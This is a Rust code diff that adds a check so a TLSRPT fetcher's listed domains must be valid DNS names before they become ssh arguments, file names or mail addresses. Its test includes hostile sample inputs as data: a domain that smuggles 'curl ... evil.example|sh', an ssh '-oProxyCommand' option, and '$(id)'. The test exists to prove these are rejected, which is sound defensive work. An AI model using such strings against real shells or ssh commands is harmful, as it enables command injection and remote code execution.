@@ -341,6 +341,22 @@ fn clock_findings(header: &Header, now: DateTime<Utc>, max_timediff: Duration) -
     }
 }
 
+/// A domain a fetcher listed, if it is a DNS name. Any collector may have
+/// stored it (upstream's stores anything a datagram says), and it is about
+/// to become a fetcher argument, a report file name and a mail address:
+/// anything else is logged and left out.
+fn usable_domain(domain: &str) -> Option<&str> {
+    match tlsrpt_datagram::check_dns_name(domain) {
+        Ok(()) => Some(domain),
+        Err(why) => {
+            log::warn!(
+                "the fetcher listed {domain:?}, which is not a domain name ({why}): left out of the reports"
+            );
+            None
+        }
+    }
+}
+
 /// Reads a v1 domain list asked for `day`.
 pub fn parse_domain_list(output: &[u8], day: NaiveDate) -> ListAnswer {
     let mut lines = match answer_lines(output) {
@@ -362,7 +378,11 @@ pub fn parse_domain_list(output: &[u8], day: NaiveDate) -> ListAnswer {
                     domains.len()
                 ))
             }
-            domain => domains.push(domain.to_owned()),
+            domain => {
+                if let Some(domain) = usable_domain(domain) {
+                    domains.push(domain.to_owned())
+                }
+            }
         }
     }
     // An ssh connection that broke mid-list looks like this.
@@ -408,6 +428,9 @@ pub fn parse_bulk(output: &[u8], day: NaiveDate) -> BulkAnswer {
                 details.len() + 4
             ));
         };
+        if usable_domain(&domain).is_none() {
+            continue;
+        }
         match parse_details(line.as_bytes(), &domain) {
             DetailsAnswer::Ok(policies) => details.push((domain, policies)),
             DetailsAnswer::RetryLater(reason) => {
@@ -569,6 +592,37 @@ fi
             good.probe(&Utc::now, Duration::from_secs(10)),
             Vec::<String>::new()
         );
+    }
+
+    /// Domains an (upstream) collector stored from hostile datagrams never
+    /// leave the fetcher's answer: not as fetcher arguments (a fetcher
+    /// behind ssh runs them through a shell), not into reports.
+    #[test]
+    fn listed_domains_that_are_not_dns_names_are_left_out() {
+        let header = format!(
+            "TLSRPT FETCHER v1devel-c domain list\n{}\n2026-11-21\n",
+            Utc::now().format("%Y-%m-%d %H:%M:%S")
+        );
+        let list = format!(
+            "{header}x.example;curl${{IFS}}evil.example|sh\n-oProxyCommand=x\nok.example\nb\u{fc}cher.example\n.\n"
+        );
+        match parse_domain_list(list.as_bytes(), day(21)) {
+            ListAnswer::Ok { domains, .. } => assert_eq!(domains, ["ok.example"]),
+            other => panic!("{other:?}"),
+        }
+        let bulk = format!(
+            "{BULK_VERSION_LINE}\n{}\n2026-11-21\n{{\"d\": \"$(id).example\", \"policies\": {{}}}}\n{{\"d\": \"ok.example\", \"policies\": {{}}}}\n.\n",
+            Utc::now().format("%Y-%m-%d %H:%M:%S")
+        );
+        match parse_bulk(bulk.as_bytes(), day(21)) {
+            BulkAnswer::Ok { details, .. } => {
+                assert_eq!(
+                    details.iter().map(|(d, _)| d.as_str()).collect::<Vec<_>>(),
+                    ["ok.example"]
+                )
+            }
+            other => panic!("{other:?}"),
+        }
     }
 
     #[test]
